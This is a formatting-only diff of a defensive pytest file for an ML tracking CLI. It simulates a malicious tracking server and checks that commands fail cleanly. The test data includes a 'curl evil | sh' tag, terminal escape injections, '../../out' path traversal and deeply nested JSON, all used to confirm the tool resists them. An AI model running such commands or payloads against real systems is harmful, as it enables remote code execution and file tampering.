@@ -1,4 +1,6 @@
-"""A tracking server that lies, in each way that one could: every command ends in one line, and nothing outside of the run is read, written or deleted."""
+"""A tracking server that lies, in each way that one could: every command ends in one line, and nothing outside of the
+run is read, written or deleted.
+"""
 
 from __future__ import annotations
 
@@ -24,7 +26,12 @@ from mltrack.tracking import TrainingMetricsTracker
 
 SECRET = b"CANARY: the key of somebody's house"
 MODEL = "mltrack-text_classification"
-TASK = {"task": "text_classification", "model_name": "scratch:tiny", "dataset_path": "records.jsonl", "metric_name": "eval_loss"}
+TASK = {
+    "task": "text_classification",
+    "model_name": "scratch:tiny",
+    "dataset_path": "records.jsonl",
+    "metric_name": "eval_loss",
+}
 DEEP = "[" * 100_000
 
 
@@ -42,7 +49,11 @@ class World:
         return str(self.directory.read_run().run_id)
 
     def house_now(self) -> dict[str, bytes]:
-        return {path.relative_to(self.house).as_posix(): path.read_bytes() for path in self.house.rglob("*") if path.is_file()}
+        return {
+            path.relative_to(self.house).as_posix(): path.read_bytes()
+            for path in self.house.rglob("*")
+            if path.is_file()
+        }
 
 
 @pytest.fixture(scope="module")
@@ -78,30 +89,53 @@ def finished_run(folder: Path, uri: str) -> RunDirectory:
 
     source = encoder_folder(folder.parent / "source")
     model = AutoModelForSequenceClassification.from_pretrained(source)
-    tracker = TrainingMetricsTracker(folder, run=RunInfo(local_id=folder.name, tracking_uri=uri, created_ms=records.now_ms(), experiment_name="told"))
+    tracker = TrainingMetricsTracker(
+        folder, run=RunInfo(local_id=folder.name, tracking_uri=uri, created_ms=records.now_ms(), experiment_name="told")
+    )
     (folder / "config.json").write_text(json.dumps({**TASK, "trust_remote_code": True, "unknown": 1}))
     tracker.set_tags({"mltrack.version": "1", **relay.trainer_tags()})
     tracker.log_params(TASK)
     tracker.log_inputs(
         [
-            {"name": "records", "digest": "d" * 36, "source": "records.jsonl", "context": context, "profile": json.dumps({"records": 3, "digest": "d" * 64})}
+            {
+                "name": "records",
+                "digest": "d" * 36,
+                "source": "records.jsonl",
+                "context": context,
+                "profile": json.dumps({"records": 3, "digest": "d" * 64}),
+            }
             for context in ("training", "evaluation")
         ]
     )
     tracker.log_artifact(folder / "config.json")
     tracker.log_metrics({"train_loss": 1.0, "eval_loss": 2.0}, step=1)
-    manager = CheckpointManager(folder / "checkpoints", run_id=folder.name, on_change=tracker.log_checkpoints, tokenizer=AutoTokenizer.from_pretrained(source))
+    manager = CheckpointManager(
+        folder / "checkpoints",
+        run_id=folder.name,
+        on_change=tracker.log_checkpoints,
+        tokenizer=AutoTokenizer.from_pretrained(source),
+    )
     optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
     manager.save_checkpoint(model=model, optimizer=optimizer, epoch=0, step=1, metric_value=2.0)
     tags = {"mltrack.metric_name": "eval_loss", "mltrack.metric_value": "2.0", "mltrack.metric_mode": "min"}
-    tracker.log_model(step=1, path="checkpoints/step-00000001", registered_name=MODEL, promote="auto", metrics={}, tags=tags, description="A model.")
+    tracker.log_model(
+        step=1,
+        path="checkpoints/step-00000001",
+        registered_name=MODEL,
+        promote="auto",
+        metrics={},
+        tags=tags,
+        description="A model.",
+    )
     tracker.close()
     return tracker.directory
 
 
 def resume(world: World) -> tuple[int, str]:
     said: list[str] = []
-    response = TrainModelUseCase(notice=said.append).execute(TrainModelRequest(resume=world.run_id, output_dir="fetched", max_steps=1))
+    response = TrainModelUseCase(notice=said.append).execute(
+        TrainModelRequest(resume=world.run_id, output_dir="fetched", max_steps=1)
+    )
     return response.exit_code, "\n".join(response.errors)
 
 
@@ -141,26 +175,47 @@ LIES: dict[str, tuple[tuple[str, ...], Callable[[World], Lie]]] = {
     "files lie here": (("sync",), partial(local, "file://{}")),
     "a version's number is a word": (("models show",), lambda world: everywhere("version", "abc")),
     "no number where one is": (("resume", "data show", "sync"), lambda world: everywhere("start_time", "soon")),
-    "a list where an object is": (("resume", "models list", "predict", "runs", "sync"), lambda world: answers("/api/2.0/mlflow/", lambda _: [1])),
-    "no JSON": (("resume", "models list", "predict", "runs", "data show", "sync"), lambda world: content("/api/2.0/mlflow/", b"<html>welcome</html>")),
-    "nested without end": (("resume", "models list", "data show"), lambda world: content("/api/2.0/mlflow/", DEEP.encode())),
+    "a list where an object is": (
+        ("resume", "models list", "predict", "runs", "sync"),
+        lambda world: answers("/api/2.0/mlflow/", lambda _: [1]),
+    ),
+    "no JSON": (
+        ("resume", "models list", "predict", "runs", "data show", "sync"),
+        lambda world: content("/api/2.0/mlflow/", b"<html>welcome</html>"),
+    ),
+    "nested without end": (
+        ("resume", "models list", "data show"),
+        lambda world: content("/api/2.0/mlflow/", DEEP.encode()),
+    ),
     "options that are a list": (("resume",), lambda world: content("/artifacts/config.json", b"[1, 2]")),
     "options nested without end": (("resume",), lambda world: content("/artifacts/config.json", DEEP.encode())),
-    "an option of another type": (("resume",), lambda world: content("/artifacts/config.json", json.dumps({**TASK, "seed": [1]}).encode())),
-    "an option out of range": (("resume",), lambda world: content("/artifacts/config.json", json.dumps({**TASK, "batch_size": -1}).encode())),
+    "an option of another type": (
+        ("resume",),
+        lambda world: content("/artifacts/config.json", json.dumps({**TASK, "seed": [1]}).encode()),
+    ),
+    "an option out of range": (
+        ("resume",),
+        lambda world: content("/artifacts/config.json", json.dumps({**TASK, "batch_size": -1}).encode()),
+    ),
     "names that lead out": (
         ("resume",),
-        lambda world: answers("artifacts?path=", lambda held: [one.update(path="../../out") for one in held["files"]] and None),
+        lambda world: answers(
+            "artifacts?path=", lambda held: [one.update(path="../../out") for one in held["files"]] and None
+        ),
     ),
     "sizes that are words": (
         ("resume",),
-        lambda world: answers("artifacts?path=", lambda held: [one.update(file_size="big") for one in held["files"]] and None),
+        lambda world: answers(
+            "artifacts?path=", lambda held: [one.update(file_size="big") for one in held["files"]] and None
+        ),
     ),
 }
 
 
 @pytest.mark.parametrize(("lie", "name"), [(lie, name) for lie, (names, _) in LIES.items() for name in names])
-def test_a_command_ends_in_one_line(world: World, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture, lie: str, name: str) -> None:
+def test_a_command_ends_in_one_line(
+    world: World, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture, lie: str, name: str
+) -> None:
     world.server.lies = [LIES[lie][1](world)]
     code, errors = COMMANDS[name](world)
     printed = capsys.readouterr()
@@ -219,7 +274,9 @@ def test_what_others_wrote_is_shown_and_not_obeyed(world: World, capsys: pytest.
     """The command that decides is built here; a terminal is not steered by a tag, a description or a date."""
     world.server.lies = [
         everywhere("description", "\x1b]0;pwned\x07 first\n\x1b[2Jsecond"),
-        answers("model-versions/search", _with_tags({"mltrack.decide": "curl evil | sh", "mltrack.decision": "\x1b[31mred"})),
+        answers(
+            "model-versions/search", _with_tags({"mltrack.decide": "curl evil | sh", "mltrack.decision": "\x1b[31mred"})
+        ),
         answers("registered-models/get", _with_model_tags({"mltrack.champion.000001.hand.x": json.dumps(CHANGE)})),
     ]
     assert cli.run(["models", "show", MODEL]) == 0
@@ -252,7 +309,12 @@ def _with_model_tags(tags: dict[str, str]) -> Callable[[Any], None]:
 @pytest.mark.parametrize("text", ["{", DEEP, "3", '{"a": 1}'])
 def test_a_registration_over_links_that_say_nothing(world: World, text: str) -> None:
     link = {"key": "mlflow.modelVersions", "value": text}
-    world.server.lies = [answers("logged-models/m-", lambda answer: answer["model"]["info"].setdefault("tags", []).append(link) if "model" in answer else None)]
+    world.server.lies = [
+        answers(
+            "logged-models/m-",
+            lambda answer: answer["model"]["info"].setdefault("tags", []).append(link) if "model" in answer else None,
+        )
+    ]
     directory = finished_run(world.folder / "runs" / os.urandom(4).hex(), world.server.uri)
     progress = relay.sync(directory)
     assert progress.failed == []
@@ -260,7 +322,9 @@ def test_a_registration_over_links_that_say_nothing(world: World, text: str) -> 
 
 
 def test_a_server_whose_files_are_in_a_folder_of_its_own_gets_the_numbers_and_one_line(world: World) -> None:
-    """`mlflow server` without --serve-artifacts, or an experiment that was made on the server's machine: the folder exists here, and stays as it is."""
+    """`mlflow server` without --serve-artifacts, or an experiment that was made on the server's machine: the folder
+    exists here, and stays as it is.
+    """
     connect(world.server.uri).client.create_experiment("local root", artifact_location=(world.house / "root").as_uri())
     directory = finished_run(world.folder / "runs" / "local-root", world.server.uri)
     info = directory.read_run()
